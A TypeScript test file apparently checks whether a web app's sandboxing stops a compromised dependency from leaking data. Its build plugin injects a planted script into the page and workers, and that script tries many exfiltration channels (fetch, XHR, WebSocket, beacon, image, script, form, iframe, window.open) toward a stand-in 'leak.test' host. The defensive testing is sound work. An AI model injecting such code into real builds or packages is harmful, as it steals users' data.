import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { build, type Plugin } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asKernel } from '../../src/tools/vite/as-kernel.ts';
import {
  type Arena,
  type LeakBrowser,
  openArena,
  type Served,
  serveArena,
  startLeakBrowser,
} from '../support/leak/arena.ts';
import { CANARIES } from '../support/leak/canaries.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const BUILD_MS = 120_000;
/** Time that what was planted gets to arrive. */
const ARRIVAL_MS = 2_000;

/** What a package that was taken over does as soon as it is imported. Each way has a host of its own. */
const PLANTED = `
const at = (way) => 'http://' + way + '-planted.leak.test/?${CANARIES.join('-')}';
const attempt = (act) => { try { Promise.resolve(act()).catch(() => {}); } catch {} };
const inPage = typeof document !== 'undefined';
const name = inPage ? 'page' : 'worker';
attempt(() => fetch(at(name + '-fetch'), { mode: 'no-cors' }));
attempt(() => { const request = new XMLHttpRequest(); request.open('POST', at(name + '-xhr')); request.send('x'); });
attempt(() => new WebSocket(at(name + '-socket').replace('http:', 'ws:')));
attempt(() => new EventSource(at(name + '-events')));
if (inPage) {
  attempt(() => navigator.sendBeacon(at('page-beacon'), 'x'));
  attempt(() => { new Image().src = at('page-image'); });
  attempt(() => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = at('page-link'); document.head.append(link); });
  attempt(() => { const script = document.createElement('script'); script.src = at('page-script'); document.head.append(script); });
  attempt(() => { const form = document.createElement('form'); form.action = at('page-form'); form.target = '_blank'; document.documentElement.append(form); form.submit(); });
  attempt(() => window.open(at('page-window')));
  attempt(() => { const frame = document.createElement('iframe'); frame.src = at('page-frame'); document.documentElement.append(frame); });
}
`;

/** Adds the planted package to the imports of the page and of both workers that a visit starts. */
function planted(): Plugin {
  const id = 'virtual:planted';
  return {
    name: 'planted',
    resolveId: (source) => (source === id ? `\0${id}` : null),
    load: (source) => (source === `\0${id}` ? { code: PLANTED, moduleSideEffects: true } : null),
    transform(code, file) {
      if (file.endsWith('/src/state/app.svelte.ts')) return `import '${id}';\n${code}`;
      return /\/workers\/(?:vault|packs)\.worker\.ts/.test(file)
        ? code.replace(/(import \* as Comlink[^\n]*\n)/, `$1import '${id}';\n`)
        : null;
    },
  };
}

let folder: string;
let dist: string;
let browser: LeakBrowser;
beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'sequester-'));
  dist = path.join(folder, 'dist');
  const { NODE_ENV } = process.env;
  process.env.NODE_ENV = 'production';
  await build({
    root: ROOT,
    configFile: path.join(ROOT, 'vite.config.ts'),
    logLevel: 'error',
    mode: 'production',
    plugins: [planted()],
    worker: { plugins: () => [asKernel(ROOT), planted()] },
    build: { outDir: dist },
  });
  process.env.NODE_ENV = NODE_ENV;
  browser = await startLeakBrowser(folder, 'planted', { isLight: true });
}, BUILD_MS);
afterAll(async () => {
  await browser.close();
  rmSync(folder, { recursive: true });
});

/** Ways that arrived, by name. */
async function arrivals(served: Served): Promise<string[]> {
  browser.recorder.clear();
  const arena: Arena = await serveArena(browser, served, served !== 'unbound', { dist });
  const page = await openArena(arena, true);
  await page.waitForTimeout(ARRIVAL_MS);
  await arena.close();
  const hosts = browser.recorder.received.map((text) => /([\w-]+)-planted\.leak\.test/.exec(text)?.[1] ?? 'unknown');
  return [...new Set(hosts)].sort();
}

describe('a planted package that sends as soon as it is imported', () => {
  it('arrives where nothing binds the app', async () => {
    const names = await arrivals('unbound');
    for (const way of [
      'page-fetch',
      'page-image',
      'page-beacon',
      'page-socket',
      'page-window',
      'worker-fetch',
      'worker-xhr',
    ])
      expect(names).toContain(way);
  });

  it.each(['as-built', 'bare-host'] as const)(
    'arrives nowhere from the app %s, its first visit included',
    async (served) => {
      expect(await arrivals(served)).toEqual([]);
    },
  );
});
